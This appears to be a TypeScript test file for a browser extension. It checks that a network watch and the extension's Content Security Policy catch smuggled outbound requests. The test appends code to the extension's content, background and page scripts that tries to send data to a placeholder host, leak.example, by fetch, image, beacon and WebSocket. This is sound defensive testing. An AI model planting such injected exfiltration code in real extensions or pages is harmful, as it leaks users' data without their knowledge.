/**
 * The watch over the network itself. The tests of all screens end with it; here requests are smuggled into the extension,
 * to see that the watch would tell, and that the extension's own policy stops those of its pages and background.
 */
import assert from "node:assert/strict";
import { appendFile, readdir } from "node:fs/promises";
import { join } from "node:path";

import { inEachBrowser } from "./lib/bench.ts";
import { openChat, say } from "./lib/chat.ts";
import type { Damage } from "./lib/extension.ts";
import { marked } from "./lib/chat.ts";
import { SENTINEL } from "./lib/messages.ts";
import { until } from "./lib/poll.ts";

/** No such host: what counts is the attempt. */
const LEAK = "http://leak.example/";

/** Each way out, with a console line when it has been tried. */
const waysOut = (place: string) => `
;void Promise.allSettled([
  (async () => fetch("${LEAK}${place}/fetch", { mode: "no-cors" }))(),
  (async () => { if (typeof Image === "function") new Image().src = "${LEAK}${place}/image"; })(),
  (async () => { navigator.sendBeacon?.("${LEAK}${place}/beacon", "words"); })(),
  (async () => { if (typeof WebSocket === "function") new WebSocket("${LEAK.replace("http", "ws")}${place}/socket"); })(),
]).then(() => console.warn("smuggled from ${place}"));
`;

const smuggle: Damage = async (extension) => {
  await appendFile(join(extension, "page.js"), waysOut("content"));
  await appendFile(join(extension, "warnings.js"), waysOut("warnings"));
  await appendFile(join(extension, "background.js"), waysOut("background"));
  for (const page of ["learn", "check", "options", "popup", "sidepanel", "welcome"]) {
    const chunk = (await readdir(join(extension, "chunks"))).find((name) => name.startsWith(`${page}-`));
    assert.ok(chunk !== undefined, `${page} has its script`);
    await appendFile(join(extension, "chunks", chunk), waysOut(page));
  }
};

const PAGES = ["learn", "check", "options", "popup", "sidepanel", "welcome"];

inEachBrowser(
  ({ test, finally: atLast }) => {
    test("requests are tried from every part", async ({ driver, tab, site }) => {
      await openChat(tab, site);
      await say(tab, SENTINEL, "message");
      await marked(tab, "message");
      for (const page of PAGES) {
        const own = await driver.newTab();
        await own.load(`${driver.origin}/${page}.html`);
        await until(`${page} has tried`, async () =>
          (await driver.complaints()).some((line) => line.includes(`smuggled from ${page}`)),
        );
        await own.close();
      }
      for (const place of ["content", "warnings", "background"]) {
        await until(`${place} has tried`, async () =>
          (await driver.complaints()).some((line) => line.includes(`smuggled from ${place}`)),
        );
      }
    });

    atLast("the watch sees what the content scripts send, and the policy lets nothing else out", (traffic) => {
      const tried = traffic.map(({ address }) => address).filter((address) => address.includes("leak.example"));
      for (const script of ["content", "warnings"]) {
        assert.ok(tried.includes(`${LEAK}${script}/fetch`), `seen: ${tried.join(" ")}`);
      }
      assert.deepEqual(
        tried.filter((address) => !/\/(?:content|warnings)\//.test(address)),
        [],
      );
    });
  },
  {
    damage: smuggle,
    expected: /leak\.example|smuggled|Content[- ]Security[- ]Policy|policy/i,
    elsewhere: /leak\.example/,
  },
);
